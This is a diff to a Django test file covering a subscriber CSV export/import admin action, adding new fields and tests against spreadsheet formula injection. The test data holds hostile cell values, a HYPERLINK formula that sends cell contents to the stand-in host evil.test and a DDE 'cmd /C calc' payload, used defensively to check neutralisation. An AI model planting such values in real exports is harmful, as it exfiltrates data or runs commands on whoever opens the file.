@@ -190,10 +190,13 @@ def test_export_selected_subscribers_as_csv(admin_client):
         "ada@example.com",
         topics="mixture of experts\nretrieval",
         frequency=Subscriber.Frequency.WEEKLY,
+        weekday=Subscriber.Weekday.THURSDAY,
         send_hour=18,
         time_zone="Europe/Paris",
+        papers_per_digest=5,
+        status=Subscriber.Status.ACTIVE,
     )
-    make_subscriber("grace@example.com", topics="compilers")
+    make_subscriber("grace@example.com", topics="compilers", status=Subscriber.Status.BOUNCED)
     make_subscriber("not-selected@example.com")
     grace = Subscriber.objects.get(email="grace@example.com")
 
@@ -209,6 +212,9 @@ def test_export_selected_subscribers_as_csv(admin_client):
             "frequency": "weekly",
             "send_hour": "18",
             "timezone": "Europe/Paris",
+            "weekday": "thursday",
+            "papers_per_digest": "5",
+            "status": "active",
         },
         {
             "email": "grace@example.com",
@@ -216,27 +222,92 @@ def test_export_selected_subscribers_as_csv(admin_client):
             "frequency": "daily",
             "send_hour": "7",
             "timezone": "UTC",
+            "weekday": "monday",
+            "papers_per_digest": "10",
+            "status": "bounced",
         },
     ]
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    "topics, cell",
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-survey\nllms", "'-survey;llms"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\tindented", "indented"),  # topic lines are stripped when saved
+        ("llms\n=1+1", "llms;=1+1"),  # a formula only starts a cell
+    ],
+)
+def test_export_neutralizes_cells_a_spreadsheet_would_run(admin_client, topics, cell):
+    reader = make_subscriber("ada@example.com", topics=topics, status=Subscriber.Status.ACTIVE)
+
+    response = run_action(admin_client, "export_csv", [reader])
+
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["topics"] == cell
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+
+
+def test_export_neutralizes_an_address_that_starts_like_a_formula(admin_client):
+    reader = make_subscriber("-ada@example.com", topics="llms", status=Subscriber.Status.ACTIVE)
+
+    response = run_action(admin_client, "export_csv", [reader])
+
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["email"] == "'-ada@example.com"
+
+
+ROUND_TRIP_FIELDS = [
+    "email",
+    "topics",
+    "frequency",
+    "weekday",
+    "send_hour",
+    "time_zone",
+    "papers_per_digest",
+    "status",
+]
 
 
 def test_exported_csv_imports_back_with_import_subscribers(admin_client, tmp_path):
     ada = make_subscriber(
         "ada@example.com",
-        topics="mixture of experts\n-survey",
+        topics=f"{FORMULA}\nmixture of experts\n-survey",
         frequency=Subscriber.Frequency.WEEKLY,
+        weekday=Subscriber.Weekday.SUNDAY,
         send_hour=0,
         time_zone="America/New_York",
+        papers_per_digest=3,
+        status=Subscriber.Status.ACTIVE,
+    )
+    grace = make_subscriber(
+        "-grace@xn--bcherei-n2a.de",
+        topics="-survey\n@home robotics",
+        status=Subscriber.Status.PAUSED,
+        papers_per_digest=20,
     )
     exported = tmp_path / "subscribers.csv"
-    exported.write_bytes(run_action(admin_client, "export_csv", [ada]).content)
-    before = Subscriber.objects.values("email", "topics", "frequency", "send_hour", "time_zone")
-    expected = list(before)
-    ada.delete()
+    exported.write_bytes(run_action(admin_client, "export_csv", [ada, grace]).content)
+    expected = list(Subscriber.objects.order_by("pk").values(*ROUND_TRIP_FIELDS))
+    Subscriber.objects.all().delete()
 
     call_command("import_subscribers", str(exported), stdout=io.StringIO())
 
-    assert list(before) == expected
+    assert list(Subscriber.objects.order_by("pk").values(*ROUND_TRIP_FIELDS)) == expected
+
+
+def test_admin_search_finds_an_address_typed_in_unicode(admin_client):
+    make_subscriber("reader@xn--bcherei-n2a.de")
+    make_subscriber("other@example.org")
+
+    response = admin_client.get(reverse(CHANGELIST), {"q": "reader@Bücherei.de"})
+
+    assert listed_emails(response) == {"reader@xn--bcherei-n2a.de"}
 
 
 def test_subscriber_changelist_queries_are_bounded_for_500_rows(
